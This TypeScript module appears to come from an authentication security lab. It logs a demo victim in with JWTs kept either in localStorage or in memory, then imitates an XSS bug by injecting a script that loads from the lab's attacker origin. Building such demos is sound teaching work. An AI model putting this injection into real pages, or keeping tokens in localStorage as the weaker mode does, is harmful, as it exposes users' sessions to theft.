/**
 * The lab's stand-in for an XSS bug: the victim logs in with the JWT column's tokens where the
 * chosen design keeps them (localStorage in the documents' mode, this module's memory in the
 * recommended one), then a `<script src>` from the attacker site is added to this page. The app
 * has no real injection point; this is the only place a foreign script enters it.
 */
import { findProxyRoute } from '../../../lib/cookie-paths.ts';
import { findAttackerOrigin } from '../attacks-client.ts';
import { VICTIM } from '../victim-session.ts';

export type JwtStorage = 'memory' | 'documents';

const JSON_HEADERS = { 'Content-Type': 'application/json', 'X-Requested-With': 'authlab' };

/**
 * Logs the victim in; in the recommended design the access token is only returned, to be kept in
 * a variable — out of reach of an injected script (no global names it), which is why the script
 * mints its own instead.
 */
export async function logInWithStorage(storage: JwtStorage): Promise<string> {
  if (VICTIM === undefined) throw new Error('The demo users are missing.');
  window.localStorage.removeItem('access_token');
  window.localStorage.removeItem('refresh_token');
  const response = await fetch(`${findProxyRoute('jwt', 'main').prefix}/login`, {
    method: 'POST',
    headers: JSON_HEADERS,
    body: JSON.stringify({
      email: VICTIM.email,
      password: VICTIM.password,
      refresh_delivery: storage === 'documents' ? 'body' : 'cookie',
    }),
  });
  const body = (await response.json()) as { access_token: string; refresh_token?: string };
  if (storage === 'documents') {
    window.localStorage.setItem('access_token', body.access_token);
    window.localStorage.setItem('refresh_token', body.refresh_token ?? '');
  }
  return body.access_token;
}

export function injectAttackerScript(): Promise<void> {
  return new Promise((resolve, reject) => {
    const script = document.createElement('script');
    script.src = `${findAttackerOrigin()}/xss/payload.js?at=${Date.now()}`;
    script.dataset.injected = 'xss';
    script.onload = () => resolve();
    script.onerror = () => reject(new Error('The attacker site did not serve its script.'));
    document.head.append(script);
  });
}
